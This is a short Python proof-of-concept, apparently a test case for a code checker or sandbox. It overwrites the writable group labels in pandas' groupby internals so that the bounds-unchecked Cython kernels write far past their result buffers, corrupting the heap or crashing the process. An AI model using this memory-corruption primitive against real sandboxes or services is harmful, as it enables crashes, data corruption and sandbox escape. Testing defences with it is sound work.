# source: pandas groupby cython kernels (_libs/groupby.pyx, boundscheck(False)); same trust issue the check already refuses for cat.codes/mi.codes (flags.writeable, .base, from_codes aliasing)
# family: objects returned by public calls whose public attributes are the library's own trusted index arrays - DataFrameGroupBy.grouper.group_info[0] (comp_ids) is writable and shared
# goal: out-of-bounds memory write: group labels are used unchecked as row numbers of the result buffers (value of row 0 lands outside the 2-row result; a far label corrupts the heap / SIGSEGV)
import pandas as pd

df = pd.DataFrame({"k": [0, 1, 0, 1], "v": [1000.0, 2.0, 3.0, 4.0]})
gb = df.groupby("k")
ids = gb.grouper.group_info[0]
print("labels pandas trusts:", ids, "writeable:", ids.flags.writeable)
ids[0] = 3                      # ngroups is 2: row 0 is now summed into result row 3
print(gb.sum())                 # group 0 is 3.0, not 1003.0: 1000.0 was written past the result buffers
ids[0] = 1 << 40                # far outside: heap write at ~8 TiB offset
print("writing far out of bounds...", flush=True)
print(gb.last())
print("not reached")
